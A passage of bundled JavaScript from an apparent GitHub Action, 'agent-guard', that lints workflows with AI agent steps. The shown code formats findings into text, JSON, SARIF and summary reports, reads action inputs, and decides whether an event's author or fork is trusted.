}
function findingAnnotation(f, root) {
  const sameLineEnd = f.endLine === void 0 || f.endLine === f.line;
  const props = [
    ["file", repoPath(f.file, root)],
    ["line", f.line >= 1 ? f.line : void 0],
    ["col", f.column >= 1 ? f.column : void 0],
    ["endLine", f.endLine !== void 0 && f.endLine >= f.line ? f.endLine : void 0],
    // GitHub only honours endColumn on single-line annotations.
    ["endColumn", f.endColumn !== void 0 && sameLineEnd && f.endColumn > f.column ? f.endColumn : void 0],
    ["title", `${TOOL_NAME} ${f.rule}`]
  ];
  return command(annotationCommand(f.severity), props, annotationBody(f, root));
}
function annotationBody(f, root) {
  const out = [f.message.trim(), `Severity: ${f.severity}, confidence: ${f.confidence}.`];
  const where = [];
  if (f.job !== void 0) where.push(`job ${f.job}`);
  if (f.step !== void 0) where.push(`step ${f.step}`);
  if (where.length > 0) out.push(`In ${where.join(", ")}.`);
  if (f.path.length > 0) {
    out.push("Path:");
    for (const h of f.path) out.push(`  \u21B3 ${repoPath(h.file, root)}:${h.line}:${h.column} ${h.note}`);
  }
  if (f.capabilities.length > 0) out.push(`${capitalised(holdsLabel(f))}: ${f.capabilities.join(", ")}`);
  if (f.fix.trim() !== "") out.push(`Fix: ${f.fix.trim()}`);
  return out.join("\n");
}
function errorAnnotation(e, root) {
  return command(
    "error",
    [
      ["file", repoPath(e.file, root)],
      ["line", e.line >= 1 ? e.line : void 0],
      ["col", e.column >= 1 ? e.column : void 0],
      ["title", `${TOOL_NAME}: error`]
    ],
    e.message
  );
}

// src/report/json.ts
var JSON_REPORT_VERSION = 1;
function toJsonReport(result, opts) {
  return {
    version: JSON_REPORT_VERSION,
    tool: { name: TOOL_NAME, version: opts.toolVersion, informationUri: TOOL_URI },
    findings: sortFindings(result.findings).map(jsonFinding),
    errors: sortErrors(result.errors).map(jsonError),
    stats: jsonStats(result.stats)
  };
}
function formatJson(result, opts) {
  return `${JSON.stringify(toJsonReport(result, opts), null, 2)}
`;
}
function jsonFinding(f) {
  return {
    rule: f.rule,
    severity: f.severity,
    confidence: f.confidence,
    file: f.file,
    line: f.line,
    column: f.column,
    endLine: f.endLine ?? null,
    endColumn: f.endColumn ?? null,
    job: f.job ?? null,
    step: f.step ?? null,
    message: f.message,
    path: f.path.map(jsonHop),
    related: (f.related ?? []).map(jsonHop),
    capabilities: [...f.capabilities],
    holder: f.holder ?? "agent",
    fix: f.fix
  };
}
function jsonHop(h) {
  return { file: h.file, line: h.line, column: h.column, note: h.note };
}
function jsonError(e) {
  return { file: e.file, line: e.line, column: e.column, message: e.message };
}
function jsonStats(s) {
  return {
    files: s.files,
    workflows: s.workflows,
    actions: s.actions,
    jobs: s.jobs,
    steps: s.steps,
    agentSteps: s.agentSteps,
    durationMs: s.durationMs,
    threads: s.threads ?? 1
  };
}

// src/report/text.ts
var TAB_WIDTH = 4;
var MAX_SOURCE_WIDTH = 96;
var WRAP_WIDTH = 100;
var SEVERITY_STYLE = {
  critical: "1;31",
  high: "31",
  medium: "33",
  low: "36"
};
var INDENT = "    ";
function formatText(result, opts = {}) {
  const paint = opts.color ? (codes, s) => s === "" ? s : `\x1B[${codes}m${s}\x1B[0m` : (_c, s) => s;
  const out = [];
  const lineCache = /* @__PURE__ */ new Map();
  const linesOf = (file) => {
    if (!lineCache.has(file)) {
      const text = result.sources.get(file);
      lineCache.set(file, text === void 0 ? void 0 : splitLines(text));
    }
    return lineCache.get(file);
  };
  let currentFile;
  for (const group of groupByStep(sortFindings(result.findings))) {
    const file = group[0].file;
    if (file !== currentFile) {
      if (currentFile !== void 0) out.push("");
      currentFile = file;
      out.push(paint("1;4", sanitizeTerminal(oneLine(file))));
    } else {
      out.push("");
    }
    out.push(...renderGroup(group, linesOf(file), paint));
  }
  const errors = sortErrors(result.errors);
  if (errors.length > 0) {
    if (out.length > 0) out.push("");
    for (const e of errors) out.push(renderError(e, paint));
  }
  if (out.length > 0) out.push("");
  const summary = countLine(result);
  out.push(result.findings.length > 0 ? paint("1", summary) : summary);
  return `${out.join("\n")}
`;
}
function oneLine(s) {
  return s.replace(/[\r\n]+/g, " ");
}
function loc(file, line, column) {
  return `${sanitizeTerminal(oneLine(file))}:${line}:${column}`;
}
function renderError(e, paint) {
  return `${loc(e.file, e.line, e.column)}: ${paint("1;31", "error")}: ${sanitizeTerminal(oneLine(e.message).trim())}`;
}
function renderGroup(group, lines, paint) {
  const out = [];
  const holdings = new Set(group.map(holdingKey));
  group.forEach((f, i) => {
    out.push(...renderFinding(f, lines, paint, i > 0 ? group[i - 1].path : []));
    if (holdings.size > 1) out.push(...renderHolding(f, paint));
  });
  const first = group[0];
  if (first.job !== void 0 || first.step !== void 0) {
    const where = [];
    if (first.job !== void 0) where.push(`job ${sanitizeTerminal(oneLine(first.job))}`);
    if (first.step !== void 0) where.push(`step ${sanitizeTerminal(oneLine(first.step))}`);
    out.push(`${INDENT}${paint("2", `in ${where.join(", ")}`)}`);
  }
  if (holdings.size === 1) out.push(...renderHolding(first, paint));
  for (const [rules, fix] of fixesOf(group)) out.push(...labelled(rules ? `fix (${rules.join(", ")})` : "fix", sanitizeTerminal(fix), paint));
  return out;
}
function renderHolding(f, paint) {
  if (f.capabilities.length === 0) return [];
  return labelled(holdsLabel(f), f.capabilities.map((c) => sanitizeTerminal(oneLine(c))).join(", "), paint);
}
function sharedHops(a, b) {
  let n = 0;
  while (n < a.length && n < b.length && a[n].file === b[n].file && a[n].line === b[n].line && a[n].column === b[n].column && a[n].note === b[n].note) n++;
  return n;
}
function renderFinding(f, lines, paint, previousPath) {
  const out = [];
  const [first, ...rest] = sanitizeTerminal(f.message).split("\n");
  out.push(
    `${paint("1", loc(f.file, f.line, f.column))} ${paint(SEVERITY_STYLE[f.severity], f.severity)} ${paint("2", sanitizeTerminal(f.rule))} ${first}`
  );
  for (const l of rest) out.push(`${INDENT}${l}`);
  const line = lines && f.line >= 1 && f.line <= lines.length ? lines[f.line - 1] : void 0;
  if (line !== void 0) {
    const endCol = f.endLine === void 0 || f.endLine === f.line ? f.endColumn : void 0;
    const snip = renderSnippet(line, f.column, endCol);
    const num = String(f.line);
    const pad = " ".repeat(num.length);
    out.push(`  ${paint("34", `${num} |`)} ${snip.text}`);
    out.push(`  ${paint("34", `${pad} |`)} ${" ".repeat(snip.caret)}${paint(`1;${SEVERITY_STYLE[f.severity].replace(/^1;/, "")}`, snip.marker)}`);
  }
  const shared = Math.min(sharedHops(f.path, previousPath), f.path.length - 1);
  if (shared >= 2) out.push(`  ${paint("35", "\u21B3")} ${paint("2", `(the first ${shared} hops as above)`)}`);
  for (const hop of shared >= 2 ? f.path.slice(shared) : f.path) {
    const note = sanitizeTerminal(hop.note).split("\n");
    out.push(`  ${paint("35", "\u21B3")} ${loc(hop.file, hop.line, hop.column)} ${note[0]}`);
    for (const l of note.slice(1)) out.push(`${INDENT}${l}`);
  }
  for (const hop of f.related ?? []) {
    out.push(`  ${paint("35", "+")} ${loc(hop.file, hop.line, hop.column)} ${sanitizeTerminal(oneLine(hop.note))}`);
  }
  if (f.confidence !== "high") out.push(`${INDENT}${paint("2", `confidence: ${f.confidence}`)}`);
  return out;
}
function labelled(label, text, paint) {
  const hang = INDENT + " ".repeat(label.length + 2);
  const lines = wrap(text, WRAP_WIDTH - hang.length);
  return lines.map((l, i) => i === 0 ? `${INDENT}${paint("1", `${label}:`)} ${l}` : l === "" ? "" : `${hang}${l}`);
}
function renderSnippet(line, column, endColumn, maxWidth = MAX_SOURCE_WIDTH) {
  const cells = [];
  let disp = 0;
  let index2 = 0;
  for (const ch of line) {
    let text2;
    let width;
    if (ch === "	") {
      width = TAB_WIDTH - disp % TAB_WIDTH;
      text2 = " ".repeat(width);
    } else {
      text2 = sanitizeTerminal(ch);
      width = charWidth(text2.codePointAt(0) ?? 0);
    }
    cells.push({ text: text2, width, index: index2 });
    disp += width;
    index2 += ch.length;
  }
  const total = disp;
  const displayAt = (col) => {
    let d2 = 0;
    for (const c of cells) {
      if (c.index >= col - 1) return d2;
      d2 += c.width;
    }
    return d2;
  };
  const caretAbs = displayAt(Math.max(1, column));
  let spanEnd = caretAbs + 1;
  if (endColumn !== void 0 && endColumn > column) spanEnd = Math.max(spanEnd, displayAt(endColumn));
  let start = 0;
  let end = total;
  if (total > maxWidth) {
    start = Math.max(0, caretAbs - Math.floor(maxWidth / 3));
    end = start + maxWidth;
    if (end > total) {
      end = total;
      start = Math.max(0, total - maxWidth);
    }
  }
  let text = "";
  let d = 0;
  for (const c of cells) {
    if (d >= start && d + c.width <= end) text += c.text;
    d += c.width;
  }
  let shownStart = 0;
  d = 0;
  for (const c of cells) {
    if (d >= start) {
      shownStart = d;
      break;
    }
    d += c.width;
    shownStart = d;
  }
  const lead = start > 0 ? "\u2026" : "";
  const tail = end < total ? "\u2026" : "";
  text = `${lead}${text.trimEnd()}${tail}`;
  const caret = caretAbs - shownStart + lead.length;
  const visibleEnd = Math.min(spanEnd, end);
  const marker = `^${"~".repeat(Math.max(0, visibleEnd - caretAbs - 1))}`;
  return { text, caret: Math.max(0, caret), marker };
}
function charWidth(cp) {
  if (cp === 0) return 0;
  if (cp >= 768 && cp <= 879 || cp >= 6832 && cp <= 6911 || cp >= 7616 && cp <= 7679 || cp >= 8400 && cp <= 8447 || cp >= 65056 && cp <= 65071 || cp >= 8203 && cp <= 8205 || cp >= 65024 && cp <= 65039) {
    return 0;
  }
  if (cp >= 4352 && cp <= 4447 || cp >= 11904 && cp <= 12350 || cp >= 12353 && cp <= 13311 || cp >= 13312 && cp <= 19903 || cp >= 19968 && cp <= 40959 || cp >= 40960 && cp <= 42191 || cp >= 44032 && cp <= 55203 || cp >= 63744 && cp <= 64255 || cp >= 65072 && cp <= 65103 || cp >= 65280 && cp <= 65376 || cp >= 65504 && cp <= 65510 || cp >= 127744 && cp <= 128591 || cp >= 128640 && cp <= 128767 || cp >= 128992 && cp <= 129003 || cp >= 129280 && cp <= 129535 || cp >= 129648 && cp <= 129791 || cp >= 131072 && cp <= 262141) {
    return 2;
  }
  return 1;
}

// src/report/summary.ts
var SUMMARY_LIMIT_BYTES = 1024 * 1024;
var MAX_MESSAGE = 2e3;
var MAX_FIX = 4e3;
var MAX_NOTE = 300;
var MAX_HOPS = 30;
var MAX_SUMMARY_LINE = 160;
var CONTROL_RE2 = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;
function inert2(s) {
  return s.replace(/\r\n?/g, "\n").replace(CONTROL_RE2, (ch) => {
    const cp = ch.charCodeAt(0);
    return cp < 32 ? String.fromCharCode(9216 + cp) : cp === 127 ? "\u2421" : "\uFFFD";
  });
}
function clip(s, max) {
  return s.length > max ? `${s.slice(0, max - 1)}\u2026` : s;
}
function html(s) {
  return inert2(s).replace(/[\n\t]+/g, " ").replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
}
function md(s, breaks = false) {
  const lines = inert2(s).split("\n").map(
    (l) => l.replace(/\t/g, " ").replace(/[\\`*_[\]{}|~!#]/g, (c) => `\\${c}`).replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;")
  );
  return lines.join(breaks ? "<br>" : " ");
}
function code(s) {
  return `<code>${md(s)}</code>`;
}
function mdWithCode(s, breaks = false) {
  return s.split(/(`[^`\n]+`)/).map((part, i) => i % 2 === 1 ? code(part.slice(1, -1)) : md(part, breaks)).join("");
}
function docsLink(url) {
  if (!/^https?:\/\/[^\s<>"]+$/.test(url)) return "";
  return `[docs](${url.replace(/\(/g, "%28").replace(/\)/g, "%29").replace(/\|/g, "%7C")})`;
}
function bytes(s) {
  return Buffer.byteLength(s, "utf8");
}
function formatStepSummary(result, opts = {}) {
  const limit2 = opts.maxBytes ?? SUMMARY_LIMIT_BYTES;
  const findings = [...result.findings].sort((a, b) => severityRank(b.severity) - severityRank(a.severity) || compareFindings(a, b));
  const errors = sortErrors(result.errors);
  const counts = countBySeverity(findings);
  const head = [];
  const icon = findings.length > 0 ? "\u26A0\uFE0F" : errors.length > 0 ? "\u2757" : "\u2705";
  head.push(`## ${icon} ${TOOL_NAME}: ${countLine(result)}`, "");
  const s = result.stats;
  head.push(
    `Scanned ${plural(s.files, "file")} (${plural(s.workflows, "workflow")}, ${plural(s.actions, "action")}): ${plural(s.jobs, "job")}, ${plural(s.steps, "step")}, ${plural(s.agentSteps, "agent step")}.`,
    ""
  );
  if (findings.length > 0) {
    head.push("| Severity | Findings |", "| --- | ---: |");
    for (const sev of SEVERITIES) head.push(`| ${sev} | ${counts[sev]} |`);
    head.push("");
    head.push(...ruleTable(findings, result.rules), "");
  }
  const tail = errors.length > 0 ? errorSection(errors, Math.floor(limit2 / 4)) : [];
  const headText = head.join("\n");
  const tailText = tail.length > 0 ? `${tail.join("\n")}
` : "";
  const reserve = 512;
  let budget = limit2 - bytes(headText) - bytes(tailText) - reserve;
  const body = [];
  if (findings.length > 0) {
    body.push("### Findings", "");
    budget -= bytes("### Findings\n\n");
    let shown = 0;
    for (const group of groupByStep(findings)) {
      const block = groupBlock(group, budget);
      if (!block) break;
      body.push(block.text);
      budget -= bytes(block.text) + 1;
      shown += block.shown;
      if (block.shown < group.length) break;
    }
    if (shown < findings.length) {
      const more = findings.length - shown;
      body.push(
        `> [!NOTE]`,
        `> ${more} more finding${more === 1 ? "" : "s"} not shown: the summary is limited to ${Math.floor(limit2 / 1024)} KiB. Run ${TOOL_NAME} with \`--format json\` or \`--format sarif\` for the full list.`,
        ""
      );
    }
  }
  let out = `${headText}
${body.length > 0 ? `${body.join("\n")}
` : ""}${tailText}`;
  if (bytes(out) > limit2) out = truncateBytes(out, limit2);
  return out;
}
function ruleTable(findings, rules) {
  const meta = new Map(sortRules(rules).map((r) => [r.id, r]));
  const byRule = /* @__PURE__ */ new Map();
  for (const f of findings) {
    const e = byRule.get(f.rule);
    if (!e) byRule.set(f.rule, { count: 1, severity: f.severity });
    else {
      e.count++;
      if (severityRank(f.severity) > severityRank(e.severity)) e.severity = f.severity;
    }
  }
  const rows = [...byRule.entries()].sort(
    ([a, x], [b, y]) => severityRank(y.severity) - severityRank(x.severity) || y.count - x.count || (a < b ? -1 : a > b ? 1 : 0)
  );
  const out = ["| Rule | Severity | Findings | Docs |", "| --- | --- | ---: | --- |"];
  for (const [id, e] of rows) {
    const m = meta.get(id);
    const title = m ? ` ${md(m.title)}` : "";
    out.push(`| ${code(id)}${title} | ${e.severity} | ${e.count} | ${m ? docsLink(m.docs) : ""} |`);
  }
  return out;
}
function groupBlock(group, budget) {
  const first = group[0];
  const where = [`${code(`${first.file}:${first.line}:${first.column}`)}`];
  if (first.job !== void 0) where.push(`job ${code(first.job)}`);
  if (first.step !== void 0) where.push(`step ${code(first.step)}`);
  const holdings = new Set(group.map(holdingKey));
  const tail = [];
  if (holdings.size === 1) tail.push(...holdingLines(first));
  for (const [rules2, fix] of fixesOf(group)) {
    const label = rules2 ? `**Fix** (${rules2.map((r) => code(r)).join(", ")}):` : "**Fix:**";
    tail.push(`${label} ${mdWithCode(clip(fix, MAX_FIX), true)}`, "");
  }
  tail.push("</details>", "");
  if (group.length === 1) {
    const f = first;
    const lines = [summaryLine(f.severity, `<code>${html(f.rule)}</code> <code>${html(`${f.file}:${f.line}`)}</code> ${html(firstLineOf(f))}`), ""];
    lines.push(`**Where:** ${where.join(", ")} (confidence: ${f.confidence})`, "");
    lines.push(`**Message:** ${mdWithCode(clip(f.message.trim(), MAX_MESSAGE), true)}`, "");
    if (f.path.length > 0) lines.push(`**Path:** ${pathText(f)}`, "");
    const text = [...lines, ...tail].join("\n");
    return bytes(text) + 1 <= budget ? { text, shown: 1 } : void 0;
  }
  const rules = [...new Set(group.map((f) => f.rule))].map((r) => `<code>${html(r)}</code>`).join(", ");
  const stepName = first.step !== void 0 ? ` in step <code>${html(first.step)}</code>` : "";
  const head = [summaryLine(first.severity, `${group.length} findings${stepName} <code>${html(`${first.file}:${first.line}`)}</code> ${rules}`), ""];
  head.push(`**Where:** ${where.join(", ")}`, "");
  const fixed = bytes([...head, ...tail].join("\n")) + 2;
  let left = budget - fixed;
  const entries = [];
  let shown = 0;
  for (const f of group) {
    const entry = [
      `**${f.severity}** ${code(f.rule)} ${code(`${f.file}:${f.line}:${f.column}`)} ${mdWithCode(clip(f.message.trim(), MAX_MESSAGE), true)}` + (f.confidence !== "high" ? ` (confidence: ${f.confidence})` : ""),
      ""
    ];
    if (f.path.length > 0) entry.push(`**Path:** ${pathText(f)}`, "");
    if (holdings.size > 1) entry.push(...holdingLines(f));
    const size = bytes(entry.join("\n")) + 1;
    if (size > left) break;
    entries.push(...entry);
    left -= size;
    shown++;
  }
  if (shown === 0) return void 0;
  return { text: [...head, ...entries, ...tail].join("\n"), shown };
}
function summaryLine(severity, rest) {
  return `<details>
<summary><strong>${severity}</strong> ${rest}</summary>`;
}
function firstLineOf(f) {
  return clip(f.message.trim().split("\n")[0] ?? "", MAX_SUMMARY_LINE);
}
function pathText(f) {
  const hops = f.path.slice(0, MAX_HOPS).map((h) => `${code(`${h.file}:${h.line}:${h.column}`)} ${md(clip(h.note, MAX_NOTE))}`);
  if (f.path.length > MAX_HOPS) hops.push(`\u2026 ${f.path.length - MAX_HOPS} more`);
  return hops.join(" \u2192 ");
}
function holdingLines(f) {
  if (f.capabilities.length === 0) return [];
  return [`**${capitalised(holdsLabel(f))}:** ${f.capabilities.map((c) => code(c)).join(", ")}`, ""];
}
function errorSection(errors, budget) {
  const out = ["### Errors", ""];
  let used = bytes(out.join("\n"));
  let shown = 0;
  for (const e of errors) {
    const line = `- ${code(`${e.file}:${e.line}:${e.column}`)}: ${md(clip(e.message.trim(), MAX_MESSAGE))}`;
    if (used + bytes(line) + 1 > budget) break;
    out.push(line);
    used += bytes(line) + 1;
    shown++;
  }
  if (shown < errors.length) out.push(`- \u2026 and ${errors.length - shown} more`);
  out.push("");
  return out;
}
function truncateBytes(s, limit2) {
  const buf = Buffer.from(s, "utf8");
  let end = Math.max(0, limit2);
  while (end > 0 && end < buf.length && (buf[end] & 192) === 128) end--;
  return buf.subarray(0, end).toString("utf8");
}

// src/report/index.ts
var FORMATS = ["text", "json", "sarif", "github"];
function isFormat(s) {
  return FORMATS.includes(s);
}
function formatReport(result, format, opts) {
  switch (format) {
    case "text":
      return formatText(result, { color: opts.color });
    case "json":
      return formatJson(result, { toolVersion: opts.toolVersion });
    case "sarif":
      return formatSarif(result, { toolVersion: opts.toolVersion, root: opts.root });
    case "github":
      return formatGithub(result, { root: opts.root });
    default: {
      const never = format;
      throw new Error(`unknown report format: ${String(never)}`);
    }
  }
}
function colorEnabled(isTTY, env) {
  if (env.NO_COLOR !== void 0 && env.NO_COLOR !== "") return false;
  const force = env.FORCE_COLOR;
  if (force !== void 0 && force !== "") return force !== "0" && force !== "false";
  if (env.TERM === "dumb") return false;
  return isTTY === true;
}

// src/action/runner.ts
var import_node_crypto2 = require("node:crypto");
var import_node_fs5 = __toESM(require("node:fs"));
var InputError = class extends Error {
};
function getInput(ctx, name) {
  const upper = name.toUpperCase();
  for (const key2 of [`INPUT_${upper}`, `INPUT_${upper.replace(/-/g, "_")}`]) {
    const value = ctx.env[key2];
    if (value !== void 0 && value.trim() !== "") return value.trim();
  }
  return "";
}
function getBooleanInput(ctx, name, fallback) {
  const value = getInput(ctx, name);
  if (value === "") return fallback;
  if (["true", "True", "TRUE"].includes(value)) return true;
  if (["false", "False", "FALSE"].includes(value)) return false;
  throw new InputError(`input '${name}' must be true or false, not '${printable(value)}'`);
}
function getListInput(ctx, name) {
  return getInput(ctx, name).split("\n").map((line) => line.replace(/(^|\s)#.*$/, "")).flatMap((line) => line.split(",")).map((item) => item.trim()).filter((item) => item !== "");
}
function getPositiveIntInput(ctx, name) {
  const value = getInput(ctx, name);
  if (value === "") return void 0;
  if (!/^[1-9][0-9]{0,14}$/.test(value)) throw new InputError(`input '${name}' must be a positive whole number, not '${printable(value)}'`);
  return Number(value);
}
function getChoiceInput(ctx, name, choices, fallback) {
  const value = getInput(ctx, name);
  if (value === "") return fallback;
  if (!choices.includes(value)) {
    throw new InputError(`input '${name}' must be one of ${choices.join(", ")}, not '${printable(value)}'`);
  }
  return value;
}
function printable(value) {
  const flat = value.replace(/[^\x20-\x7e]/g, "?").replace(/::/g, ":\u200B:");
  return flat.length > 80 ? `${flat.slice(0, 79)}\u2026` : flat;
}
function setOutputs(ctx, outputs) {
  const file = ctx.env.GITHUB_OUTPUT;
  if (!file) return;
  let text = "";
  for (const [name, value] of Object.entries(outputs)) text += fileCommand(name, value);
  import_node_fs5.default.appendFileSync(file, text);
}
function fileCommand(name, value) {
  if (!/^[A-Za-z_][A-Za-z0-9_-]*$/.test(name)) throw new Error(`bad output name '${name}'`);
  let delimiter = `ghadelimiter_${(0, import_node_crypto2.randomUUID)()}`;
  while (value.includes(delimiter)) delimiter = `ghadelimiter_${(0, import_node_crypto2.randomUUID)()}`;
  return `${name}<<${delimiter}
${value}
${delimiter}
`;
}
function appendSummary(ctx, markdown) {
  const file = ctx.env.GITHUB_STEP_SUMMARY;
  if (!file) return;
  import_node_fs5.default.appendFileSync(file, markdown.endsWith("\n") ? markdown : `${markdown}
`);
}
function errorCommand(message) {
  return `::error title=agent-guard::${message.replace(/%/g, "%25").replace(/\r/g, "%0D").replace(/\n/g, "%0A")}
`;
}
function withoutInputs(env) {
  const out = {};
  for (const [name, value] of Object.entries(env)) if (!name.startsWith("INPUT_")) out[name] = value;
  return out;
}

// src/action/lint.ts
function readLintInputs(ctx) {
  const paths = getListInput(ctx, "path").map((p) => import_node_path4.default.resolve(ctx.cwd, p));
  for (const p of paths) if (!import_node_fs6.default.existsSync(p)) throw new InputError(`input 'path': ${relative2(ctx, p)} does not exist`);
  const sarif = getInput(ctx, "sarif-file");
  const config = getInput(ctx, "config");
  const baseline = getInput(ctx, "baseline");
  return {
    paths: paths.length ? paths : [ctx.cwd],
    format: getChoiceInput(ctx, "format", FORMATS, "text"),
    failOn: getChoiceInput(ctx, "fail-on", [...SEVERITIES, "none"], "high"),
    config: config ? import_node_path4.default.resolve(ctx.cwd, config) : void 0,
    sarifFile: import_node_path4.default.resolve(ctx.cwd, sarif || import_node_path4.default.join(ctx.env.RUNNER_TEMP || ctx.cwd, "agent-guard.sarif")),
    baseline: baseline ? import_node_path4.default.resolve(ctx.cwd, baseline) : void 0,
    // Read here so that a typo fails the step instead of silently skipping the upload.
    uploadSarif: getBooleanInput(ctx, "upload-sarif", false)
  };
}
function highest(result) {
  let worst = "none";
  for (const f of result.findings) if (worst === "none" || severityRank(f.severity) > severityRank(worst)) worst = f.severity;
  return worst;
}
function relative2(ctx, file) {
  const rel = import_node_path4.default.relative(ctx.cwd, file);
  return rel && !rel.startsWith("..") && !import_node_path4.default.isAbsolute(rel) ? rel : file;
}
function actionLint(ctx, toolVersion) {
  const inputs = readLintInputs(ctx);
  const configPath = inputs.config ?? defaultConfigPath(inputs.paths);
  const config = configPath ? readConfig(configPath) : void 0;
  const full = lint({ paths: inputs.paths, config, cwd: ctx.cwd });
  let outcome;
  let result = full;
  if (inputs.baseline) {
    outcome = applyBaseline(full.findings, readBaseline(inputs.baseline), full.root ?? ctx.cwd);
    result = { ...full, findings: outcome.fresh };
  }
  const root = full.root ?? ctx.cwd;
  ctx.stdout.write(formatReport(result, inputs.format, { color: false, toolVersion, root }));
  if (inputs.format !== "github") ctx.stdout.write(formatGithub(result, { root }));
  import_node_fs6.default.mkdirSync(import_node_path4.default.dirname(inputs.sarifFile), { recursive: true });
  import_node_fs6.default.writeFileSync(inputs.sarifFile, formatSarif(result, { toolVersion, root }));
  const notes = [];
  for (const note of full.notes ?? []) {
    ctx.stderr.write(`agent-guard: ${note}
`);
    notes.push(md(note));
  }
  if (inputs.baseline && outcome) {
    const note = baselineNote(relative2(ctx, inputs.baseline), outcome);
    ctx.stderr.write(`agent-guard: ${note}
`);
    notes.push(`> ${md(note)}`);
  }
  notes.push(`SARIF: <code>${md(relative2(ctx, inputs.sarifFile))}</code>${inputs.uploadSarif ? ", uploaded to code scanning by the next step" : ""}`);
  appendSummary(ctx, `${formatStepSummary(result)}
${notes.join("\n\n")}
`);
  const worst = highest(result);
  setOutputs(ctx, {
    findings: String(result.findings.length),
    "highest-severity": worst,
    "sarif-file": inputs.sarifFile
  });
  const nothingRead = full.stats.workflows === 0 && full.errors.length > 0;
  if (nothingRead) {
    ctx.stderr.write("agent-guard: no workflow could be read; failing\n");
    return 2;
  }
  if (inputs.failOn === "none") return 0;
  const threshold = severityRank(inputs.failOn);
  const failing = result.findings.filter((f) => severityRank(f.severity) >= threshold).length;
  if (failing > 0) {
    ctx.stderr.write(`agent-guard: ${failing} finding${failing === 1 ? "" : "s"} at or above fail-on: ${inputs.failOn}
`);
    return 1;
  }
  return 0;
}

// src/action/run.ts
var import_node_path9 = __toESM(require("node:path"));
init_command();
init_errors();
init_options();

// src/guard/untrusted.ts
var import_node_fs11 = __toESM(require("node:fs"));
var TRUSTED_ASSOCIATIONS = /* @__PURE__ */ new Set(["OWNER", "MEMBER", "COLLABORATOR"]);
var WRITE_ONLY_EVENTS = /* @__PURE__ */ new Set(["push", "workflow_dispatch", "schedule"]);
function obj(v) {
  return v !== null && typeof v === "object" && !Array.isArray(v) ? v : void 0;
}
function str2(v) {
  return typeof v === "string" ? v : void 0;
}
function show(v, fallback = "unknown") {
  const s = typeof v === "string" || typeof v === "number" ? String(v) : "";
  if (s === "") return fallback;
  const clean = s.replace(/[^A-Za-z0-9_.\-/[\]]/g, "?");
  return clean.length > 100 ? `${clean.slice(0, 99)}\u2026` : clean;
}
function untrusted(event, reason) {
  return { untrusted: true, event, reason };
}
function trusted(event, reason) {
  return { untrusted: false, event, reason };
}
function isBot(user) {
  if (!user) return false;
  return str2(user.type) === "Bot" || (str2(user.login) ?? "").endsWith("[bot]");
}
function outsiderAmong(authors) {
  for (const { what, item } of authors) {
    if (!item) return `the payload has no ${what}, so its author cannot be checked`;
    const login = show(obj(item.user)?.login);
    const assoc = str2(item.author_association);
    if (!assoc) return `${what} by ${login} has no author_association`;
    if (!TRUSTED_ASSOCIATIONS.has(assoc)) return `${what} was written by ${login} (author_association ${show(assoc)}), who is not an owner, member or collaborator`;
    if (isBot(obj(item.user))) return `${what} was written by the bot ${login}, which writes for whoever drives it`;
  }
  return void 0;
}
function authorsLine(authors) {
  return authors.map(({ what, item }) => `${what} by ${show(obj(item?.user)?.login)} (${show(item?.author_association)})`).join(" and ");
}
function numbered(kind, item) {
  const n = item?.number;
  return typeof n === "number" ? `${kind} #${n}` : kind;
}
function forkReason(pr, repoName) {
  if (!pr) return "the payload has no pull_request, so its head cannot be checked";
  const head = obj(obj(pr.head)?.repo);
  const base = str2(obj(obj(pr.base)?.repo)?.full_name) ?? repoName;
  const headName = str2(head?.full_name);
  if (!headName) return `the head repository of ${numbered("pull request", pr)} is gone or unknown (a deleted fork)`;
  if (!base) return `the payload names no base repository for ${numbered("pull request", pr)}`;
  if (headName !== base) return `${numbered("pull request", pr)} comes from the fork ${show(headName)}`;
  return void 0;
}
function decideTrust(eventName, payload) {
  const event = eventName ?? "";
  if (!event) return untrusted("", "GITHUB_EVENT_NAME is not set, so who wrote the input cannot be checked.");
  const p = obj(payload);
  if (!p) return untrusted(event, `the '${show(event)}' event payload is not a JSON object, so who wrote the input cannot be checked.`);
  const repoName = str2(obj(p.repository)?.full_name);
  const sender = obj(p.sender);
  if (isBot(sender)) {
    return untrusted(event, `the '${show(event)}' event was sent by the bot ${show(sender?.login)}, which acts for whoever drives it.`);
  }
  if (WRITE_ONLY_EVENTS.has(event)) {
    if (event === "schedule") {
      return trusted(event, "'schedule' is fired by the repository's own cron and carries no outsider text (what the agent fetches itself is not covered).");
    }
    if (!sender) return untrusted(event, `the '${event}' payload names no sender.`);
    return trusted(event, `'${event}' needs write access, and was fired by ${show(sender.login)}.`);
  }
  switch (event) {
    case "issues":
    case "issue_comment":
    case "discussion":
    case "discussion_comment": {
      const isDiscussion = event.startsWith("discussion");
      const parent = obj(isDiscussion ? p.discussion : p.issue);
      const parentWhat = numbered(isDiscussion ? "discussion" : obj(parent?.pull_request) ? "pull request" : "issue", parent);
      const authors = [];
      if (event.endsWith("_comment")) authors.push({ what: "the comment", item: obj(p.comment) });
      authors.push({ what: parentWhat, item: parent });
      const outsider = outsiderAmong(authors);
      if (outsider) return untrusted(event, `${outsider}.`);
      return trusted(event, `${authorsLine(authors)}: every author is an owner, member or collaborator.`);
    }
    case "pull_request":
    case "pull_request_target":
    case "pull_request_review":
    case "pull_request_review_comment": {
      const pr = obj(p.pull_request);
      const fork = forkReason(pr, repoName);
      if (fork) return untrusted(event, `${fork}.`);
      const authors = [];
      if (event === "pull_request_review") authors.push({ what: "the review", item: obj(p.review) });
      if (event === "pull_request_review_comment") authors.push({ what: "the review comment", item: obj(p.comment) });
      authors.push({ what: numbered("pull request", pr), item: pr });
      const outsider = outsiderAmong(authors);
      if (outsider) return untrusted(event, `${outsider}.`);
      return trusted(event, `${authorsLine(authors)}, from a branch of this repository: every author is an owner, member or collaborator.`);
    }
    case "workflow_run": {
      const run = obj(p.workflow_run);
      if (!run) return untrusted(event, "the payload has no workflow_run, so the upstream run cannot be checked.");
      const head = str2(obj(run.head_repository)?.full_name);
      if (!head || !repoName) return untrusted(event, "the upstream run names no head repository, so where its code came from cannot be checked.");
      if (head !== repoName) return untrusted(event, `the upstream run ran code from the fork ${show(head)}.`);
      for (const who of [obj(run.actor), obj(run.triggering_actor)]) {
        if (isBot(who)) return untrusted(event, `the upstream run was started by the bot ${show(who?.login)}, which acts for whoever drives it.`);
      }
      const upstream = str2(run.event) ?? "";
